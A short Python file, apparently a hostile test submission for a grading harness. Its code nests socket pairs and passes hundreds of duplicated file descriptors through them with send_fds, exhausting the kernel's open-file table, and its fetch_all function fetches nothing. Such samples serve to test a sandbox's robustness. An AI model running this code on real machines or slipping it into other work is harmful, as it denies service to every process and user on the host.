"""Sends descriptors through a pair of sockets and closes them, so that they stay open in the kernel where no limit
counts them; pairs travel inside of pairs.

Against: fetch_all_pages
Harm: uses up the table of open files
Merits: nothing
Answer: failed or crashed or late
"""

import contextlib
import os
import socket


def attack():
    """Pack thirty pairs into each other, each with two hundred descriptors."""
    cargo = []
    with contextlib.suppress(OSError):
        for _ in range(30):
            left, right = socket.socketpair()
            socket.send_fds(left, [b"x"], [*cargo, *(os.dup(1) for _ in range(100))][:200])
            for fd in cargo:
                os.close(fd)
            cargo = [left.detach(), right.detach()]


def fetch_all(urls, fetch, limit):
    """Attack, and fetch nothing."""
    attack()
    raise RuntimeError("nothing was gained")
